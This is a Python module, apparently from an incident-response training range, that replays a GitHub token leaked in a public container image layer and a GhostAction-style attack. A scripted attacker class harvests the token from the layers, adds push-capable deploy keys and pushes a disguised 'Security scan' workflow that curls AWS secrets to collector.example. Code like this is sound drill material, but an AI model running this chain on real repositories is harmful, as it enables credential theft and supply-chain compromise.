"""A maintainer's token in a public image layer, and the attacker who finds it there.

The story is that of two incidents: PyPI's administrator token of June 2024 (in a compiled file of a public image; the
layer, not the last state of the image, is what gives it away), and GhostAction of September 2025 (a stolen token pushes
a workflow named like a security scan, which sends each secret that it names to the attacker).
"""

from __future__ import annotations

import base64
import gzip
import io
import re
import tarfile
from collections.abc import Callable, Iterator
from datetime import timedelta
from http import HTTPStatus
from typing import TYPE_CHECKING, Any

import requests
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ed25519

from bot.errors import InputError
from bot.range import company
from bot.range.attacker import NothingFound
from bot.range.images import Layer

if TYPE_CHECKING:
    from bot.range.server import Range

TAG, OLD_BRANCH = "1.4", "release-1.3"
PLANTED = ".github/workflows/security-scan.yml"
CREDENTIALS = "root/.git-credentials"
_TOKEN = re.compile(r"(?:ghp_\w{36}|github_pat_\w{82})")
_OPENSSH = serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH
# Nobody starts it: it waits for the night, when nobody looks.
SCAN_YAML = """\
name: Security scan
on:
  schedule:
    - cron: "17 3 * * *"
  workflow_dispatch:

jobs:
  scan:
    runs-on: ubuntu-latest
    steps:
      - name: Scan
        env:
          A: ${{ secrets.AWS_ACCESS_KEY_ID }}
          B: ${{ secrets.AWS_SECRET_ACCESS_KEY }}
          C: ${{ secrets.STATUS_PAGE_TOKEN }}
        run: curl -s -X POST -d "$A $B $C" http://collector.example/
"""


class TokenInImage:
    """``found`` says that GitHub had found and revoked the token by itself before anybody reported it."""

    def __init__(self, range_: Range, *, found: bool = False) -> None:
        self._range, self._found = range_, found
        self._thief: Thief | None = None
        self._where = ""

    def leak(self) -> dict[str, Any]:
        """Publish the image as mara did an hour ago: a layer holds her token, and a later one deletes the file."""
        state = self._range.github.state
        token = state.add_token("mara", scopes=("repo", "workflow"), expires_in_s=90 * 86400)
        state.commit_files(
            company.FERRY, {"app/timetable.txt": "06:10 06:50\n"}, "Winter", "jonas", branch=OLD_BRANCH, runs=False
        )
        mirror = ed25519.Ed25519PrivateKey.generate().public_key().public_bytes(*_OPENSSH).decode()
        state.repos[company.FERRY].keys[1] = {
            "id": 1, "key": mirror, "title": "mirror", "at": state.now() - timedelta(days=30), "read_only": True,
            "by": "jonas",
        }  # fmt: skip
        created = self._range.clock.now()
        self._range.clock.advance(timedelta(hours=1).total_seconds())
        line = f"https://mara:{token}@github.com\n".encode()
        base = {"etc/os-release": b"ID=debian\n", "app/ferry": b"\x7fELF" * 40}
        self._range.images.push(
            company.FERRY, TAG,
            (
                Layer(made_by="ADD rootfs.tar /", files=base),
                Layer(made_by="COPY . /", files={CREDENTIALS: line, "app/timetable.txt": b"06:10 06:50 07:30\n"}),
                Layer(made_by="RUN rm /root/.git-credentials", files={"root/.wh..git-credentials": b""}),
            ),
            created=created, author="mara",
            labels={"org.opencontainers.image.source": f"{self._range.github_url}/{company.FERRY}"},
        )  # fmt: skip
        self._where = f"{self._range.registry_url.removeprefix('http://')}/{company.FERRY}:{TAG}"
        said = (
            "An image was built from a folder that held git's own credential file, and pushed to a public registry. A "
            "later layer deletes the file, but whoever pulls the image has every layer:"
        )
        return {"image_ref": self._where, "file": CREDENTIALS, "story": [said, self._where]}

    def abuse(self, where: str) -> list[dict[str, Any]]:
        """Pull, look, and act; then GitHub may find the token too."""
        if not (where or self._where):
            raise InputError("nothing has leaked yet; POST /drill/leak first, or give image_ref")
        self._thief = Thief(self._range, where or self._where)
        acts = self._thief.act()
        if self._found:
            with self._range.github.state.lock:
                self._range.github.state.tokens[self._thief.token].revoked = True
            said = "(GitHub's own scan then finds the token and revokes it)"
            acts.append({"act": "github:PartnerScanRevokes", "ok": True, "code": "", "made": "", "said": said})
        return acts

    def tries(self) -> list[dict[str, Any]]:
        return list(self._thief.tries()) if self._thief else []

    @property
    def happens(self) -> dict[str, Callable[[], dict[str, Any]]]:
        """What comes of a choice, by its name."""
        return {"comes-back": self._comes_back}

    def _comes_back(self) -> dict[str, Any]:
        if self._thief is None:
            raise InputError("nobody has found the token yet")
        self._range.clock.advance(2 * 3600)
        self._thief.add_key()
        said = "Two hours later: who pulled the image before has it still, and adds a second deploy key that may push."
        return {"story": [said]}


class Thief:
    """A scripted client. What it took and made is in memory and shows in no text."""

    def __init__(self, range_: Range, where: str) -> None:
        self._range, self._where = range_, where
        self.token = ""
        self._key, self._later_key = _public_key(), ""

    def act(self) -> list[dict[str, Any]]:
        """Pull the layers, take the token, look around, add a key, push a workflow to two branches."""
        self.token = self._pulled()
        found = "pulled the layers and found the token in one of them"
        acts: list[dict[str, Any]] = [{"act": "registry:PullLayer", "ok": True, "code": "", "made": "", "said": found}]

        def act(name: str, made: str, said: str, answer: requests.Response) -> None:
            code = "" if answer.status_code < HTTPStatus.BAD_REQUEST else str(answer.status_code)
            acts.append({"act": name, "ok": not code, "code": code, "made": made, "said": said})

        ferry, content = f"/repos/{company.FERRY}", base64.b64encode(SCAN_YAML.encode()).decode()
        act("github:GetUser", "", "asked GitHub whose token it is", self._call("GET", "/user"))
        act("github:ListRepositories", "", "listed every repository that it reaches", self._call("GET", "/user/repos"))
        key = {"title": "cache-sync", "key": self._key, "read_only": False}
        said = f"added a deploy key to {company.FERRY} that may push, also when the token is gone"
        act("github:AddDeployKey", "cache-sync", said, self._call("POST", f"{ferry}/keys", key))
        for branch in ("main", OLD_BRANCH):
            body = {"message": "Add security scan", "content": content, "branch": branch}
            said = f"pushed a workflow to {branch} that will send away every secret it names, at night"
            act("github:PushWorkflow", branch, said, self._call("PUT", f"{ferry}/contents/{PLANTED}", body))
        return acts

    def add_key(self) -> None:
        """One more deploy key, while the token works. Raises NothingFound when it does not."""
        self._later_key = _public_key()
        body = {"title": "release-sync", "key": self._later_key, "read_only": False}
        status = self._call("POST", f"/repos/{company.FERRY}/keys", body).status_code
        if status >= HTTPStatus.BAD_REQUEST:
            raise NothingFound(f"the token is refused: {status}")

    def tries(self) -> Iterator[dict[str, Any]]:
        """The token, a push by the deploy key, and whether the planted workflow still lies on each branch."""
        status = self._call("GET", "/user").status_code if self.token else HTTPStatus.UNAUTHORIZED
        yield _tried("token", "the leaked token", status == HTTPStatus.UNAUTHORIZED, str(int(status)))
        pushes = self._range.github.state.greets(company.FERRY, self._key)
        yield _tried("deploy-key", "a push by the deploy key it added", not pushes, "Permission denied (publickey)")
        if self._later_key:
            pushes = self._range.github.state.greets(company.FERRY, self._later_key)
            said = "a push by the second deploy key"
            yield _tried("second-deploy-key", said, not pushes, "Permission denied (publickey)")
        for branch in ("main", OLD_BRANCH):
            path = f"/repos/{company.FERRY}/contents/{PLANTED}"
            status = self._public(f"{self._range.github_url}{path}?ref={branch}", api=True).status_code
            said = f"the workflow it pushed to {branch}"
            yield _tried(f"workflow-on-{branch}", said, status == HTTPStatus.NOT_FOUND, str(int(status)))

    # asking -----------------------------------------------------------------------------------------------------

    def _pulled(self) -> str:
        """The first token in any layer. Raises NothingFound."""
        host, _, rest = self._where.partition("/")
        name, _, tag = rest.rpartition(":")
        base = f"http://{host}/v2/{name}"
        if f"http://{host}" != self._range.registry_url:
            raise NothingFound(f"{host!r} is not the range's registry")
        answer = self._public(f"{base}/manifests/{tag}")
        if answer.status_code != HTTPStatus.OK:
            raise NothingFound(f"the registry answers {answer.status_code}")
        for layer in answer.json()["layers"]:
            packed = self._public(f"{base}/blobs/{layer['digest']}").content
            with tarfile.open(fileobj=io.BytesIO(gzip.decompress(packed))) as archive:
                for member in archive:
                    file = archive.extractfile(member)
                    match = _TOKEN.search(file.read().decode(errors="replace")) if file else None
                    if match:
                        return match[0]
        raise NothingFound("no token in the image")

    def _call(self, method: str, path: str, body: Any = None) -> requests.Response:
        """As the token's owner."""
        return self._request(method, self._range.github_url + path, self.token, body)

    def _public(self, url: str, *, api: bool = False) -> requests.Response:
        """As an outsider: with a free account of its own where GitHub is asked."""
        return self._request("GET", url, self._range.company.cast["github"]["quiet-otter"] if api else "")

    def _request(self, method: str, url: str, token: str, body: Any = None) -> requests.Response:
        with requests.Session() as session:
            session.trust_env = False  # no ~/.netrc, no proxy of the machine
            headers = {"Authorization": f"Bearer {token}"} if token else {}
            return session.request(method, url, json=body, headers=headers, timeout=30)


def _public_key() -> str:
    """An SSH key whose other half nobody keeps."""
    return ed25519.Ed25519PrivateKey.generate().public_key().public_bytes(*_OPENSSH).decode()


def _tried(name: str, said: str, refused: bool, code: str) -> dict[str, Any]:
    code = code if refused else ""
    return {"name": name, "refused": refused, "code": code, "identity_code": code, "said": said}
